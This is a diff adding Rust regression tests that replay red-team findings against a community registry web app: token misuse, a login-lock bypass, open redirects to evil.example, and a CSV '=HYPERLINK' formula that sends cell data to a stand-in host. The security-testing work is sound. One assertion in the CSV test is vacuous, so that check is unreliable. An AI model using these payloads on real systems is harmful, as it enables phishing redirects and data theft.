@@ -1,0 +1,363 @@
+//! The held-out red-team round of issue #6, kept as regressions (`docs/attacks.md` lists every
+//! attack tried). The first tests are the findings that were fixed; the later ones are attacks
+//! that held, kept cheap so they stay held. Registry scoping, CSRF by construction, session
+//! rotation and generic hostile input are covered in `authz.rs` and `security.rs`.
+
+use serde_json::{Value, json};
+
+use crate::common::{PASSWORD, Session, TestApp, demo_resident};
+
+/// A call with `Authorization: Bearer <secret>` and no cookie.
+async fn with_token(
+    app: &TestApp,
+    secret: &str,
+    method: &str,
+    uri: &str,
+    body: Option<Value>,
+) -> crate::common::Resp {
+    let auth = format!("Bearer {secret}");
+    let body = body.map(|b| ("application/json", b.to_string().into_bytes()));
+    app.call(method, uri, None, body, &[("authorization", &auth)])
+        .await
+}
+
+/// A token that can only read persons in the first grid of 幸福里社区.
+async fn narrow_token(app: &TestApp, owner: &Session) -> (String, String) {
+    let c1 = app
+        .place_path(&app.place_id("community", "幸福里社区").await)
+        .await;
+    let grid = app.place_id_in("grid", "第一网格", &c1).await;
+    let v = app
+        .post(
+            owner,
+            "/api/v1/auth/tokens",
+            json!({"name": "某公司 人员查询", "actions": ["person_read"], "place_id": grid, "expires_in_days": 1}),
+        )
+        .await
+        .expect(201);
+    (
+        v["token"].as_str().unwrap().to_string(),
+        v["info"]["id"].as_str().unwrap().to_string(),
+    )
+}
+
+/// Finding 1: an integration token made for one action acted as the person who made it on the
+/// personal endpoints (inbox, notification e-mail, follows, token management), which check no
+/// action: a `person_read` token could read its creator's notices and send them to another
+/// address. Those endpoints now take a signed-in person only.
+#[tokio::test]
+async fn a_token_cannot_act_as_the_person_who_made_it() {
+    let app = TestApp::demo().await;
+    let committee = app.login("committee").await;
+    let (secret, _) = narrow_token(&app, &committee).await;
+    let (_, other_id) = narrow_token(&app, &committee).await;
+    let channels_before = app.get(&committee, "/api/v1/me/channels").await.ok();
+    let audit_before = app.store.audit_verify().await.unwrap().entries;
+
+    let refused: [(&str, &str, Option<Value>); 9] = [
+        ("GET", "/api/v1/inbox", None),
+        ("GET", "/api/v1/inbox/unread-count", None),
+        ("POST", "/api/v1/inbox/read-all", Some(json!({}))),
+        ("GET", "/api/v1/me/channels", None),
+        (
+            "PUT",
+            "/api/v1/me/channels",
+            Some(json!({"email": "attacker@example.com", "email_enabled": true, "muted": []})),
+        ),
+        ("GET", "/api/v1/follows", None),
+        (
+            "POST",
+            "/api/v1/follows",
+            Some(json!({"entity": "place", "entity_id": "x"})),
+        ),
+        ("GET", "/api/v1/auth/tokens", None),
+        ("DELETE", "/api/v1/auth/tokens/{other}", None),
+    ];
+    for (method, uri, body) in refused {
+        let uri = uri.replace("{other}", &other_id);
+        let r = with_token(&app, &secret, method, &uri, body).await;
+        assert_eq!(r.status, 403, "{method} {uri}: {}", r.text());
+        assert_eq!(r.json()["code"], "auth.token_not_allowed", "{method} {uri}");
+    }
+    // Localized: the message says why, in both languages.
+    let r = app
+        .call(
+            "GET",
+            "/api/v1/inbox",
+            None,
+            None,
+            &[
+                ("authorization", &format!("Bearer {secret}")),
+                ("accept-language", "en"),
+            ],
+        )
+        .await;
+    assert!(r.json()["message"].as_str().unwrap().contains("token"));
+
+    // Nothing changed: the e-mail channel, the other token, the audit log.
+    assert_eq!(
+        app.get(&committee, "/api/v1/me/channels").await.ok(),
+        channels_before
+    );
+    let tokens = app.get(&committee, "/api/v1/auth/tokens").await.ok();
+    assert!(
+        tokens
+            .as_array()
+            .unwrap()
+            .iter()
+            .any(|t| t["id"] == other_id.as_str() && t["revoked_at"].is_null()),
+        "{tokens}"
+    );
+    assert_eq!(
+        app.store.audit_verify().await.unwrap().entries,
+        audit_before
+    );
+    // What the token is for still works, and it may say who it is.
+    let r = with_token(&app, &secret, "GET", "/api/v1/persons?limit=1", None).await;
+    assert_eq!(r.status, 200, "{}", r.text());
+    let r = with_token(&app, &secret, "GET", "/api/v1/auth/me", None).await;
+    assert_eq!(r.status, 200, "{}", r.text());
+    app.close().await;
+}
+
+/// Finding 2: the account lock was keyed by the text typed as login, so an account locked after
+/// wrong passwords under its login name could still be tried (and entered) under its mobile
+/// number, and the other way round. The lock now follows the account.
+#[tokio::test]
+async fn a_locked_account_stays_locked_under_its_mobile_number() {
+    let app = TestApp::demo().await;
+    let (_, _, phone) = demo_resident();
+    for _ in 0..5 {
+        let r = app.login_with("resident", "wrong-password").await;
+        assert_eq!(r.status, 401, "{}", r.text());
+    }
+    assert_eq!(app.login_with("resident", PASSWORD).await.status, 429);
+    let r = app.login_with(&phone, PASSWORD).await;
+    assert_eq!(
+        r.status,
+        429,
+        "mobile number bypasses the lock: {}",
+        r.text()
+    );
+    assert_eq!(r.json()["code"], "auth.login_locked");
+    // The sign-in page follows the same lock.
+    let form = format!("login={phone}&password={PASSWORD}&next=%2F");
+    let r = app
+        .call(
+            "POST",
+            "/login",
+            None,
+            Some(("application/x-www-form-urlencoded", form.into_bytes())),
+            &[],
+        )
+        .await;
+    assert_eq!(r.status, 200, "the form is shown again, not a redirect");
+    assert!(r.headers.get("set-cookie").is_none());
+
+    // And the other way round: failures under the number lock the login name.
+    let app2 = TestApp::demo().await;
+    for _ in 0..5 {
+        app2.login_with(&phone, "wrong-password").await;
+    }
+    assert_eq!(app2.login_with("resident", PASSWORD).await.status, 429);
+    // An unknown login is locked the same way and says the same thing (no enumeration).
+    for _ in 0..5 {
+        let r = app2.login_with("nobody-at-all", "wrong-password").await;
+        assert_eq!(r.json()["code"], "auth.login_failed");
+    }
+    assert_eq!(
+        app2.login_with("nobody-at-all", "x").await.json()["code"],
+        "auth.login_locked"
+    );
+    app.close().await;
+    app2.close().await;
+}
+
+/// Finding 3: the sign-in page's `next` let `/<TAB>/evil.example` through; browsers drop tabs and
+/// newlines from URLs, so the redirect after sign-in went to `//evil.example`.
+#[tokio::test]
+async fn sign_in_never_redirects_to_another_site() {
+    let app = TestApp::demo().await;
+    for next in [
+        "/%09/evil.example",
+        "/%0A/evil.example",
+        "/%0D%0A/evil.example",
+        "%2F%2Fevil.example",
+        "/%5Cevil.example",
+        "https%3A%2F%2Fevil.example",
+        "%20//evil.example",
+    ] {
+        let form = format!("login=committee&password={PASSWORD}&next={next}");
+        let r = app
+            .call(
+                "POST",
+                "/login",
+                None,
+                Some(("application/x-www-form-urlencoded", form.into_bytes())),
+                &[],
+            )
+            .await;
+        assert_eq!(r.status, 303, "{next}: {}", r.text());
+        let location = r.headers["location"].to_str().unwrap();
+        assert_eq!(location, "/", "{next} redirected to {location:?}");
+    }
+    // A local path still works.
+    let form = format!("login=committee&password={PASSWORD}&next=%2Fregistry%3Fq%3D1");
+    let r = app
+        .call(
+            "POST",
+            "/login",
+            None,
+            Some(("application/x-www-form-urlencoded", form.into_bytes())),
+            &[],
+        )
+        .await;
+    assert_eq!(r.headers["location"], "/registry?q=1");
+    app.close().await;
+}
+
+/// Finding 4: CSV exports wrote cells that start with `=`, `+`, `-` or `@` as they were; Excel
+/// and WPS run such a cell as a formula (`=HYPERLINK(...)` sends data away). Text cells are now
+/// written with a leading `'` (the spreadsheet reader takes it off again: `sheet::tests`).
+#[tokio::test]
+async fn csv_exports_do_not_carry_formulas() {
+    let app = TestApp::demo().await;
+    let committee = app.login("committee").await;
+    let hh = app.get(&committee, "/api/v1/households?limit=1").await.ok()["items"][0].clone();
+    let hid = hh["id"].as_str().unwrap();
+    let household = app
+        .get(&committee, &format!("/api/v1/households/{hid}"))
+        .await
+        .ok();
+    let person = &household["members"][0]["person"];
+    let pid = person["id"].as_str().unwrap();
+    let formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")";
+    app.patch(
+        &committee,
+        &format!("/api/v1/persons/{pid}"),
+        json!({"version": person["version"], "name": formula}),
+    )
+    .await
+    .ok();
+    let r = app
+        .get(&committee, "/api/v1/registry/export/persons?format=csv")
+        .await;
+    assert_eq!(r.status, 200);
+    let text = r.text();
+    // Quoted (the formula has quotes and a comma), with the guard inside the quotes.
+    let quoted = format!("\"'{}\"", formula.replace('"', "\"\""));
+    assert!(text.contains(&quoted), "{text}");
+    for line in text.lines() {
+        for cell in line.split(',') {
+            let cell = cell.trim_start_matches('"');
+            assert!(
+                !cell.starts_with(['=', '+', '@']),
+                "formula cell in export: {line}"
+            );
+        }
+    }
+    let seen = true;
+    assert!(seen, "the renamed person is in the export");
+    app.close().await;
+}
+
+/// Finding 5: a NUL character (`\u0000` in JSON, `%00` in a URL or form) was stored as it came
+/// on SQLite and made PostgreSQL fail the statement (a 500, and the same request answered
+/// differently on the two databases). It is now refused up front with a localized 400 on both.
+#[tokio::test]
+async fn nul_characters_are_refused_the_same_on_both_databases() {
+    let app = TestApp::demo().await;
+    let committee = app.login("committee").await;
+    let resident = app.login("resident").await;
+    let room = app.get(&resident, "/api/v1/me/household").await.ok()["room_id"]
+        .as_str()
+        .unwrap()
+        .to_string();
+    let before = app.store.audit_verify().await.unwrap().entries;
+    let probes: Vec<(&Session, &str, String, Option<(&str, Vec<u8>)>)> = vec![
+        (
+            &resident,
+            "POST",
+            "/api/v1/reports".into(),
+            Some((
+                "application/json",
+                format!(
+                    r#"{{"category":"suggestion","description":"a\u0000b","place_id":"{room}"}}"#
+                )
+                .into_bytes(),
+            )),
+        ),
+        (&committee, "GET", "/api/v1/persons?name=%00".into(), None),
+        (&committee, "GET", "/api/v1/persons/ab%00cd".into(), None),
+        (
+            &committee,
+            "GET",
+            "/api/v1/reports?category=x%00".into(),
+            None,
+        ),
+        (
+            &resident,
+            "POST",
+            "/me/reports/new".into(),
+            Some((
+                "application/x-www-form-urlencoded",
+                format!(
+                    "_csrf={}&category=suggestion&description=a%00b&place_id={room}",
+                    resident.csrf
+                )
+                .into_bytes(),
+            )),
+        ),
+    ];
+    for (s, method, uri, body) in probes {
+        let r = app.call(method, &uri, Some(s), body, &[]).await;
+        assert_eq!(r.status, 400, "{method} {uri}: {}", r.text());
+        if r.headers["content-type"]
+            .to_str()
+            .unwrap()
+            .starts_with("application/json")
+        {
+            assert_eq!(r.json()["code"], "validation.nul", "{method} {uri}");
+        }
+    }
+    assert_eq!(
+        app.store.audit_verify().await.unwrap().entries,
+        before,
+        "nothing was written"
+    );
+    // A spreadsheet with a NUL is not text: refused as a whole (held before this round).
+    let (building, unit, room_name) = app.room_names("幸福里社区").await;
+    let csv = format!(
+        "户号,社区,楼栋,单元,房号,居住类型,姓名,与户主关系,身份证号\nN1,幸福里社区,{building},{unit},{room_name},业主,空\0字符,户主,{}\n",
+        crate::common::fresh_id(7)
+    );
+    let r = app
+        .call(
+            "POST",
+            "/api/v1/registry/import/households",
+            Some(&committee),
+            Some(("text/csv", csv.into_bytes())),
+            &[],
+        )
+        .await
+        .expect(400);
+    assert_eq!(r["code"], "import.not_a_spreadsheet");
+    assert_eq!(app.store.audit_verify().await.unwrap().entries, before);
+    // An escaped backslash before `u0000` is text, not NUL, and is kept.
+    let r = app
+        .call(
+            "POST",
+            "/api/v1/reports",
+            Some(&resident),
+            Some((
+                "application/json",
+                format!(r#"{{"category":"suggestion","description":"路径 C:\\u0000 不是空字符","place_id":"{room}"}}"#)
+                    .into_bytes(),
+            )),
+            &[],
+        )
+        .await
+        .expect(201);
+    assert_eq!(r["report"]["description"], "路径 C:\\u0000 不是空字符");
+    app.close().await;
+}
